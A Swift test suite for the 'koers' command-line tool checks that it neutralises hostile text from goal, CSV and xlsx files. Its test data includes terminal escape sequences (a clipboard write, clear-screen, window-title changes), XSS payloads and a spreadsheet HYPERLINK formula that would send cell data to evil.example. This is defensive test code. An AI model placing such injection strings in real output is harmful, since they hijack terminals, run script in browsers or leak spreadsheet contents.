import Foundation
import FoundationXML
import KoersTestSupport
import Testing

/// The attack pass of issue 15 on text from files: each test is one attack and what koers
/// does about it, run on the built binary. docs/security.md ("Text from files") lists them.
@Suite("Security: text from files", .serialized)
struct SecurityTextTests {
    /// A folder with these files (text or bytes), removed afterwards.
    final class Folder {
        let path: String

        init(_ files: [String: [UInt8]]) throws {
            path = FileManager.default.temporaryDirectory.appendingPathComponent("koers-security-\(UUID().uuidString)").path
            try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
            for (name, bytes) in files {
                try Data(bytes).write(to: URL(fileURLWithPath: path + "/" + name))
            }
        }

        convenience init(text files: [String: String]) throws {
            try self.init(files.mapValues { Array($0.utf8) })
        }

        deinit { try? FileManager.default.removeItem(atPath: path) }
    }

    /// Whether the text has no byte a terminal would act on: C0 but line feed, tab and CR LF, DEL, C1.
    static func isInert(_ text: String) -> Bool {
        !text.unicodeScalars.enumerated().contains { index, scalar in
            let value = scalar.value
            if value == 0x0A || value == 0x09 { return false }
            if value == 0x0D { return Array(text.unicodeScalars).dropFirst(index + 1).first != "\n" }
            return value < 0x20 || (0x7F...0x9F).contains(value)
        }
    }

    static let goalWithXLSXData = """
        metric m
            title "Meldingen"
            unit count
            source "Wijkmonitor"
            definition "Meldingen per wijk."
        data "cijfers.xlsx"
            metric m
            column period "periode"
            column value "waarde"
        goal g
            title "Meer meldingen"
            owner "Team Wijk"
            metric m
            baseline 2020
            target >= 20 by 2024

        """

    /// A workbook whose one label cell (`wijk`) holds `label`.
    static func workbook(label: String) -> [UInt8] {
        let header = "<row r=\"1\">\(Workbook.sharedCell("A1", "0"))\(Workbook.sharedCell("B1", "1"))\(Workbook.sharedCell("C1", "2"))</row>"
        var rows = ""
        for index in 0..<2 {
            let row = index + 2
            let cells: String = Workbook.numberCell("A\(row)", String(2020 + index)) + Workbook.numberCell("B\(row)", String(10 + index))
            rows += "<row r=\"\(row)\">\(cells)\(Workbook.sharedCell("C\(row)", "3"))</row>"
        }
        return Workbook.xlsx(sharedStrings: ["periode", "waarde", "wijk", label], rows: header + rows)
    }

    // MARK: Terminal escape injection

    @Test("An OSC 52 clipboard write in a goal title is refused at file:line:column, shown visibly, with the fix")
    func clipboardWriteInGoalTitleIsRefused() throws {
        let folder = try Folder(text: ["doel.koers": "goal g\n    title \"Evil\u{1B}]52;c;aGVsbG8=\u{07} title\"\n"])
        let run = try runKoers(["-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("doel.koers:2:16: error: control character \\u{1B} in text"), "\(run.errors)")
        #expect(run.errors.contains(#"title "Evil\u{1B}]52;c;aGVsbG8=\u{7} title""#), "the excerpt is shown visibly")
        #expect(run.errors.contains("write `\\t` for a tab and `\\n` for a line break"))
        #expect(Self.isInert(run.errors) && Self.isInert(run.output))
    }

    @Test("A control character in goal-file text is refused in Dutch too")
    func controlCharacterRefusedInDutch() throws {
        let folder = try Folder(text: ["doel.koers": "doel g\n    titel \"Wis\u{1B}[2J het scherm\"\n"])
        let run = try runKoers(["--lang", "nl", "-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("doel.koers:2:15: fout: stuurteken \\u{1B} in tekst"), "\(run.errors)")
        #expect(run.errors.contains("schrijf `\\t` voor een tab en `\\n` voor een regelovergang"))
        #expect(Self.isInert(run.errors))
    }

    @Test("A value label with a window-title escape is refused like any text")
    func windowTitleInValueLabelIsRefused() throws {
        let folder = try Folder(text: ["doel.koers": "metric m\n    value {wijk=\"\u{1B}]0;pwned\u{07}\"} 2020 = 5\n"])
        let run = try runKoers(["-c", "series m", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("control character \\u{1B} in text"), "\(run.errors)")
        #expect(Self.isInert(run.errors))
    }

    @Test("A C1 control (8-bit CSI) in a goal-file line is shown visibly in the error excerpt")
    func c1ControlInErrorExcerptIsVisible() throws {
        let folder = try Folder(text: ["doel.koers": "goal g\n    tit\u{9B}2Jle \"T\"\n"])
        let run = try runKoers(["-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("tit\\u{9B}2Jle"), "\(run.errors)")
        #expect(Self.isInert(run.errors))
    }

    @Test("A file name holding an escape sequence is refused, shown visibly in the message")
    func fileNameWithEscapeIsVisible() throws {
        let folder = try Folder(text: ["wis\u{1B}[2J.koers": "goal g\n    bogus \"T\"\n"])
        let run = try runKoers(["-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("wis\\u{1B}[2J.koers': its name holds a control character"), "\(run.errors)")
        #expect(Self.isInert(run.errors))
    }

    // XML allows no C0 control but tab and line breaks (a raw ESC makes the workbook damaged,
    // SecondAttackTests), so the 8-bit forms carry the attack: OSC 0, ST and CSI.
    @Test("An xlsx label holding 8-bit OSC 0 and clear-screen reaches every table visibly", arguments: ["metrics", "series m", "sources", "status", "show g", "check"])
    func xlsxLabelEscapeIsVisibleInTables(_ command: String) throws {
        let folder = try Folder(["doel.koers": Array(Self.goalWithXLSXData.utf8), "cijfers.xlsx": Self.workbook(label: "Noord\u{9D}0;pwned\u{9C}\u{9B}2J")])
        for format in ["table", "csv", "markdown"] {
            let run = try runKoers(["-c", "\(command) --format \(format)", folder.path])
            #expect(Self.isInert(run.output) && Self.isInert(run.errors), "\(command) --format \(format): \(run.output.debugDescription)")
        }
        let metrics = try runKoers(["-c", "metrics", folder.path])
        #expect(metrics.output.contains("Noord\\u{9D}0;pwned\\u{9C}\\u{9B}2J"), "\(metrics.output)")
    }

    @Test("JSON stays valid JSON and keeps the label's exact text, escaped by the JSON writer")
    func jsonWithControlCharactersIsValid() throws {
        let label = "Noord\u{9D}0;pwned\u{9C}\u{9B}"
        let folder = try Folder(["doel.koers": Array(Self.goalWithXLSXData.utf8), "cijfers.xlsx": Self.workbook(label: label)])
        let run = try runKoers(["-c", "metrics --format json", folder.path])
        #expect(run.status == 0, "\(run.errors)")
        #expect(run.output.contains(#"Noord\u009d0;pwned\u009c\u009b"#), "\(run.output)")
        let parsed = try JSONSerialization.jsonObject(with: Data(run.output.utf8)) as? [[String: Any]]
        #expect(parsed?.contains { ($0["series"] as? String)?.contains(label) == true } == true)
    }

    // MARK: Silent misreads

    @Test("An xlsx shared-string index out of range is an error naming sheet and cell", arguments: ["999", "-1", "abc"])
    func xlsxSharedStringOutOfRange(_ index: String) throws {
        let header = "<row r=\"1\">" + Workbook.sharedCell("A1", "0") + Workbook.sharedCell("B1", "1") + "</row>"
        let row = "<row r=\"7\">" + Workbook.numberCell("A7", "2020") + Workbook.sharedCell("B7", index) + "</row>"
        let folder = try Folder(["doel.koers": Array(Self.goalWithXLSXData.utf8), "cijfers.xlsx": Workbook.xlsx(sharedStrings: ["periode", "waarde"], rows: header + row)])
        let run = try runKoers(["-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("cell Blad1!B7 refers to shared string \"\(index)\", but the workbook has 2"), "\(run.errors)")
    }

    @Test("Duplicate cell references in a sheet are an error")
    func xlsxDuplicateCell() throws {
        let header = "<row r=\"1\">" + Workbook.sharedCell("A1", "0") + Workbook.sharedCell("B1", "1") + "</row>"
        let row = "<row r=\"2\">" + Workbook.numberCell("A2", "2020") + Workbook.numberCell("B2", "5") + Workbook.numberCell("B2", "5000") + "</row>"
        let folder = try Folder(["doel.koers": Array(Self.goalWithXLSXData.utf8), "cijfers.xlsx": Workbook.xlsx(sharedStrings: ["periode", "waarde"], rows: header + row)])
        let run = try runKoers(["-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("cell Blad1!B2 appears twice in the sheet"), "\(run.errors)")
    }

    static let goalWithCSVData = """
        metric m
            title "Aanvragen"
            unit count
        data "cijfers.csv"
            metric m
        goal g
            title "Meer aanvragen"
            metric m
            baseline 2020
            target >= 60000 by 2024

        """

    @Test("A CSV number beyond the range of a double is an error at its row and column, not infinity")
    func csvNumberBeyondDouble() throws {
        let folder = try Folder(text: ["doel.koers": Self.goalWithCSVData, "cijfers.csv": "periode,waarde\n2020,5\n2021,1\(String(repeating: "0", count: 400))\n"])
        let run = try runKoers(["-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("cijfers.csv:3:2: error: "), "\(run.errors)")
        #expect(run.errors.contains("is beyond the range of a number koers can compute with"))
    }

    @Test("49.525 beside 51,000.5 with the notation inferred is refused, naming both figures and asking for the notation", arguments: [("en", "Which notation does the file use?"), ("nl", "Welke notatie gebruikt het bestand?")])
    func inferredNotationJumpIsRefused(_ language: String, _ question: String) throws {
        let folder = try Folder(text: ["doel.koers": Self.goalWithCSVData, "cijfers.csv": "periode,waarde\n2020,\"51,000.5\"\n2021,49.525\n"])
        let run = try runKoers(["--lang", language, "-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("cijfers.csv:3:2: "), "\(run.errors)")
        #expect(run.errors.contains("\"49.525\"") && run.errors.contains("\"51,000.5\""))
        #expect(run.errors.contains(question))
    }

    @Test("A figure that does not fit the declared notation is reported once")
    func notationMismatchIsReportedOnce() throws {
        let goal = Self.goalWithCSVData.replacingOccurrences(of: "    metric m\ngoal", with: "    metric m\n    decimal comma\ngoal")
        let folder = try Folder(text: ["doel.koers": goal, "cijfers.csv": "periode,waarde\n2020,\"1,000.5\"\n"])
        let run = try runKoers(["-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.components(separatedBy: "does not fit").count == 2, "\(run.errors)")
    }

    @Test("sum() formulas that lead back to each other are refused, naming the loop")
    func sumFormulaCycleIsNamed() throws {
        let folder = try Folder(text: ["doel.koers": "metric a\n    formula sum(b)\nmetric b\n    formula sum(a)\n"])
        let run = try runKoers(["-c", "status", folder.path])
        #expect(run.status == 3)
        #expect(run.errors.contains("the formula of metric `a` refers back to itself: `a` → `b` → `a`"), "\(run.errors)")
    }

    // MARK: Markdown and CSV output

    static let hostileGoals = """
        metric m
            title "M <script>alert(1)</script>"
            unit count
            value 2020 = -5
            value 2021 = 12.5
        goal g
            title "<img src=x onerror=alert(1)> | a\\nb"
            metric m
            baseline 2020
            target >= 20 by 2024
            waiver no-owner "=HYPERLINK(\\"http://evil.example/?\\"&A1)"

        """

    @Test("--format markdown escapes HTML and keeps a line break or | in a title inside its row", arguments: ["status", "show g", "check", "series m", "metrics"])
    func markdownEscapesHTML(_ command: String) throws {
        let folder = try Folder(text: ["doel.koers": Self.hostileGoals])
        let run = try runKoers(["-c", "\(command) --format markdown", folder.path])
        #expect(run.status == 0 || run.status == 1, "\(run.errors)")
        let unescaped = run.output.replacingOccurrences(of: "\\<", with: "")
        #expect(!unescaped.contains("<img") && !unescaped.contains("<script"), "\(run.output)")
        for row in run.output.split(separator: "\n") where row.hasPrefix("|") {
            #expect(row.hasSuffix("|"), "a row broken by the title: \(row)")
        }
    }

    @Test("--format csv puts ' before a cell a spreadsheet would run (a waiver reason), not before a negative number")
    func csvNeutralisesFormulas() throws {
        let folder = try Folder(text: ["doel.koers": Self.hostileGoals])
        let check = try runKoers(["-c", "check --format csv", folder.path])
        #expect(check.output.contains(#""'=HYPERLINK(""http://evil.example/?""&A1)""#), "\(check.output)")
        let series = try runKoers(["-c", "series m --format csv", folder.path])
        #expect(series.output.contains(",2020,-5,"), "\(series.output)")
    }

    @Test("--csv-raw writes cells as they are, for programs")
    func csvRawKeepsCells() throws {
        let folder = try Folder(text: ["doel.koers": Self.hostileGoals])
        let run = try runKoers(["--csv-raw", "-c", "check --format csv", folder.path])
        #expect(run.output.contains(#""=HYPERLINK(""http://evil.example/?""&A1)""#), "\(run.output)")
    }

    // MARK: Chart files

    @Test("SVG chart files are well-formed XML with markup, a tab and a line break in the title")
    func svgChartsAreWellFormed() throws {
        let goals = Self.hostileGoals.replacingOccurrences(of: "| a\\nb", with: "| a\\nb\\t&amp; <![CDATA[ ]]>")
        let folder = try Folder(text: ["doel.koers": goals])
        let run = try runKoers(["-c", "report --format markdown -o \(folder.path)/raad.md --charts \(folder.path)/grafieken", folder.path])
        #expect(run.status == 0, "\(run.errors)")
        let charts = try FileManager.default.contentsOfDirectory(atPath: folder.path + "/grafieken").filter { $0.hasSuffix(".svg") }
        #expect(!charts.isEmpty)
        for chart in charts {
            let data = try Data(contentsOf: URL(fileURLWithPath: folder.path + "/grafieken/" + chart))
            #expect(XMLParser(data: data).parse(), "\(chart)")
        }
    }
}
